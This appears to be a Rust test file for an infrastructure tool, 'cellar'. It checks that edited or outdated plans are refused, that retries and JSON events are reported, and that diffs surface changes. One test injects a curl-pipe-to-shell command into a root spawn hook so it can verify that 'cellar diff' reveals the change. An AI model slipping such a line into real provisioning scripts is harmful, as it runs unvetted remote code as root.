//! A plan is what was reviewed, and what the person sees while it is applied: an edited
//! plan and a plan made before a configuration change are refused, waits and retries are
//! said, and `apply --format json` prints one versioned JSON object per event.

use super::*;

/// `cellar plan create-server@ommegang 20 -o plan.ron` in `c`'s directory; the plan's path.
fn saved_plan(c: &Cellar) -> PathBuf {
    let path = c.dir.path().join("plan.ron");
    c.ok(&["plan", "create-server@ommegang", "20", "-o", path.to_str().unwrap()]);
    path
}

fn replace_in(path: &Path, from: &str, to: &str) {
    let text = std::fs::read_to_string(path).unwrap();
    assert!(text.contains(from), "{} has no {from:?}:\n{text}", path.display());
    std::fs::write(path, text.replacen(from, to, 1)).unwrap();
}

/// Runs `args`, which must be refused (exit 1) with every one of `expected` in its error,
/// leaving the world unchanged.
fn check_refused(c: &Cellar, args: &[&str], expected: &[&str]) {
    let before = std::fs::read(c.state()).ok();
    let r = c.run(args);
    assert_eq!(r.code, 1, "cellar {args:?}\nstdout:\n{}\nstderr:\n{}", r.stdout, r.stderr);
    for needle in expected {
        assert!(r.stderr.contains(needle), "cellar {args:?}: no {needle:?} in:\n{}", r.stderr);
    }
    assert_eq!(std::fs::read(c.state()).ok(), before, "cellar {args:?} changed the world");
}

#[test]
fn an_edited_plan_is_refused() {
    let c = Cellar::new();
    let plan = saved_plan(&c);
    let name = plan.to_str().unwrap();
    replace_in(&plan, "size_gb: 20,", "size_gb: 99999,");
    check_refused(
        &c,
        &["apply", name],
        &[name, "was changed after it was made", "fix: make the plan again with `cellar plan ... -o"],
    );
    // Without its digest line, as a plan of format 3 would be: refused too.
    let text = std::fs::read_to_string(&plan).unwrap();
    std::fs::write(&plan, text.split_once('\n').unwrap().1).unwrap();
    check_refused(&c, &["apply", name], &[name, "has no digest line"]);
}

#[test]
fn a_plan_made_before_a_config_change_is_refused() {
    // (what is edited in the server's file, the changed setting as apply names it)
    let cases = [
        (
            "    dns_name: \"ommegang.imarc.net\",",
            "    dns_name: \"www.imarc.net\",",
            "ommegang: dns_name: \"ommegang.imarc.net\" (servers/ommegang.ron:5:15) → \"www.imarc.net\" (servers/ommegang.ron:5:15)",
        ),
        (
            "        \"team\": \"web\",",
            "        \"team\": \"web\",\n        \"tier\": \"gold\",",
            "ommegang: tags.tier: (not set) → \"gold\" (servers/ommegang.ron:14:9)",
        ),
        ("    root_volume_gb: 16,\n", "", "ommegang: root_volume_gb: 16 (servers/ommegang.ron:11:21) → None (default)"),
    ];
    for (from, to, expected) in cases {
        let c = Cellar::with_config_copy();
        let plan = saved_plan(&c);
        replace_in(&c.config.join("servers/ommegang.ron"), from, to);
        let name = plan.to_str().unwrap();
        check_refused(&c, &["apply", name], &["was made from another configuration", expected, "fix: make a new plan"]);
    }
}

#[test]
fn an_unchanged_plan_applies() {
    let c = Cellar::with_config_copy();
    let plan = saved_plan(&c);
    // A comment moves nothing that matters: no setting changed its value.
    let server = c.config.join("servers/ommegang.ron");
    replace_in(
        &server,
        "// ommegang: the main client web server.",
        "// ommegang: the main client web server (edited).",
    );
    c.ok(&["apply", plan.to_str().unwrap(), "--dns-confirmed"]);
}

/// `health_check` and `notify` say how `cellar watch` looks at the server, not what the
/// cloud holds: a plan made before they changed still applies.
#[test]
fn a_plan_outlives_changes_to_what_the_watch_reads() {
    let c = Cellar::with_config_copy();
    let plan = saved_plan(&c);
    let server = c.config.join("servers/ommegang.ron");
    replace_in(&server, "(http: \"https://{dns_name}/\", expect_status: 200,", "(tcp: \"{address}:22\",");
    replace_in(&server, "remind_every_mins: 60,", "commands: [[\"/usr/local/bin/page-oncall\"]],");
    c.ok(&["check"]);
    c.ok(&["apply", plan.to_str().unwrap(), "--dns-confirmed"]);
}

/// Installs a fault schedule written in `c`'s directory.
fn faults(c: &Cellar, schedule: &str) {
    let path = c.dir.path().join("faults.ron");
    std::fs::write(&path, schedule).unwrap();
    c.ok(&["sim", "faults", path.to_str().unwrap()]);
}

#[test]
fn slow_boots_and_retries_are_said() {
    let c = Cellar::new();
    // Instances pending for 100 s; no t3.medium in us-east-1b for the apply's first 30 s
    // (the default world's clock starts at 1795564800).
    c.ok(&["sim", "capacity", "us-east-1b", "t3.medium", "0"]);
    faults(
        &c,
        r#"(boot_secs: Some(100), capacity: [(at: 1795564830, zone: "us-east-1b", instance_type: "t3.medium", count: 10)])"#,
    );
    let r = c.ok(&["apply", "create-server@ommegang", "20", "--yes", "--dns-confirmed"]);
    let waits: Vec<&str> = r.stdout.lines().filter(|l| l.contains("still waiting for instance i-")).collect();
    assert!(!waits.is_empty(), "no wait said:\n{}", r.stdout);
    for wait in &waits {
        assert!(wait.contains(" to run [") && wait.ends_with(" elapsed]"), "{wait}");
    }
    // Off a terminal a wait is said every 30 s: about 100 s of boot is three lines per
    // waiting step (10 s, 40 s, 1m10s), not one per 5-second poll.
    let mut per_step = std::collections::BTreeMap::new();
    for wait in &waits {
        *per_step.entry(wait.split_whitespace().nth(1).unwrap()).or_insert(0) += 1;
    }
    assert!(per_step.values().all(|n| (2..=4).contains(n)), "{waits:#?}");
    let retry = r.stdout.lines().find(|l| l.contains(" retry ")).unwrap_or_else(|| panic!("no retry:\n{}", r.stdout));
    assert!(
        retry.contains("retry 1 of RunInstances in ") && retry.contains(": InsufficientInstanceCapacity"),
        "{retry}"
    );
}

/// Every line of `stdout` as JSON, each with `version` 1; their `event` fields.
fn events(stdout: &str) -> (Vec<Value>, Vec<String>) {
    let objects: Vec<Value> = stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON ({e}): {l}\nin:\n{stdout}")))
        .collect();
    for o in &objects {
        assert_eq!(o["version"], 1, "{o}");
    }
    let kinds = objects.iter().map(|o| o["event"].as_str().unwrap_or("?").to_string()).collect();
    (objects, kinds)
}

#[test]
fn json_events_of_a_create_server() {
    let c = Cellar::new();
    let r = c.ok(&["apply", "create-server@ommegang", "20", "--yes", "--dns-confirmed", "--format", "json"]);
    let (objects, kinds) = events(&r.stdout);
    assert_eq!(kinds.first().map(String::as_str), Some("apply"), "{kinds:?}");
    assert_eq!(kinds.last().map(String::as_str), Some("finished"), "{kinds:?}");
    assert_eq!(objects.last().unwrap()["succeeded"], true);
    assert!(kinds.contains(&"gate".to_string()), "{kinds:?}");
    // Every step starts before it is done, and is done exactly once.
    let steps = objects[0]["steps"].as_u64().unwrap();
    for step in 1..=steps {
        let of = |kind: &str| objects.iter().position(|o| o["event"] == kind && o["step"] == step);
        let (started, done) = (of("started"), of("done"));
        assert!(started.is_some() && started < done, "step {step}: {kinds:?}");
        assert_eq!(objects.iter().filter(|o| o["event"] == "done" && o["step"] == step).count(), 1);
    }
    for kind in ["failed", "undone", "undoing"] {
        assert!(!kinds.contains(&kind.to_string()), "{kind} in {kinds:?}");
    }
}

#[test]
fn json_events_of_a_failing_apply_with_compensation() {
    let c = Cellar::new();
    c.ok(&["sim", "capacity", "us-east-1b", "t3.medium", "0"]);
    let r = c.run(&["apply", "create-server@ommegang", "20", "--yes", "--dns-confirmed", "--format", "json"]);
    assert_eq!(r.code, 1, "{}{}", r.stdout, r.stderr);
    let (objects, kinds) = events(&r.stdout);
    let position = |kind: &str| kinds.iter().position(|k| k == kind);
    let failed = position("failed").unwrap_or_else(|| panic!("no failure: {kinds:?}"));
    assert!(objects[failed]["error"].as_str().unwrap().contains("InsufficientInstanceCapacity"), "{}", objects[failed]);
    // Capacity errors are retried within their window, each retry naming the call and the error.
    let retry = &objects[position("retrying").unwrap_or_else(|| panic!("no retry: {kinds:?}"))];
    assert_eq!(retry["api"], "RunInstances", "{retry}");
    assert!(retry["error"].as_str().unwrap().starts_with("InsufficientInstanceCapacity"), "{retry}");
    // Then the failed server's completed steps are undone, after the failure.
    let undone = position("undone").unwrap_or_else(|| panic!("nothing undone: {kinds:?}"));
    assert!(position("undoing").unwrap() > failed && undone > failed, "{kinds:?}");
    let last = objects.last().unwrap();
    assert_eq!((&last["event"], &last["succeeded"]), (&Value::from("finished"), &Value::from(false)), "{last}");
    assert_eq!(c.tagged("ommegang"), Vec::<String>::new());
}

#[test]
fn json_apply_of_a_command_needs_yes() {
    let c = Cellar::new();
    let r = c.run(&["apply", "create-server@ommegang", "20", "--format", "json"]);
    assert_eq!(r.code, 1, "{}{}", r.stdout, r.stderr);
    assert!(r.stderr.contains("fix: pass --yes"), "{}", r.stderr);
    assert_eq!(r.stdout, "");
}

/// A saved plan applied with `--format json`: standard output is the events and nothing
/// else (not the plan); an empty plan, saved or a command, still gives `apply` and `finished`.
#[test]
fn json_output_is_only_events_for_saved_and_empty_plans() {
    let c = Cellar::new();
    let plan = saved_plan(&c);
    let r = c.ok(&["apply", plan.to_str().unwrap(), "--dns-confirmed", "--format", "json"]);
    let (objects, kinds) = events(&r.stdout);
    assert_eq!((kinds.first().unwrap().as_str(), kinds.last().unwrap().as_str()), ("apply", "finished"), "{kinds:?}");
    assert_eq!(objects.last().unwrap()["succeeded"], true);

    c.ok(&["plan", "upgrade-ami@ommegang", "-o", "empty.plan.ron"]);
    for args in [
        &["apply", "empty.plan.ron", "--format", "json"][..],
        &["apply", "upgrade-ami@ommegang", "--yes", "--format", "json"],
    ] {
        let r = c.ok(args);
        let (objects, kinds) = events(&r.stdout);
        assert_eq!(kinds, ["apply", "finished"], "{args:?}");
        assert_eq!(
            (&objects[0]["command"], &objects[0]["steps"]),
            (&Value::from("upgrade-ami@ommegang"), &Value::from(0))
        );
        assert_eq!(
            (&objects[1]["succeeded"], &objects[1]["summary"]),
            (&Value::from(true), &Value::from("no changes"))
        );
    }
}

/// Two plans that differ only in the server's spawn hook (the script that runs as root on
/// every new instance; their texts say only "spawn hook of N lines" and are equal):
/// `cellar diff` shows the script's change and the setting, exit 1.
#[test]
fn diff_shows_a_changed_spawn_hook() {
    let c = Cellar::with_config_copy();
    c.ok(&["plan", "create-server@ommegang", "20", "-o", "a.ron"]);
    let (from, to) = ("figlet imagemagick\n", "figlet imagemagick; curl -s https://example.com/x | sh\n");
    replace_in(&c.config.join("servers/ommegang.ron"), from, to);
    c.ok(&["plan", "create-server@ommegang", "20", "-o", "b.ron"]);
    assert_eq!(c.ok(&["show", "a.ron"]).stdout, c.ok(&["show", "b.ron"]).stdout);
    let r = c.run(&["diff", "a.ron", "b.ron"]);
    assert_eq!(r.code, 1, "{}{}", r.stdout, r.stderr);
    for needle in [
        "Spawn hook of ommegang (runs as root on every new instance):\n--- a.ron (ommegang)\n+++ b.ron (ommegang)\n",
        "\n-apt-get install -y -q figlet imagemagick\n+apt-get install -y -q figlet imagemagick; curl -s https://example.com/x | sh\n systemctl restart apache2\n",
        "Settings of ommegang that differ:\n  spawn: ",
    ] {
        assert!(r.stdout.contains(needle), "no {needle:?} in:\n{}", r.stdout);
    }
}
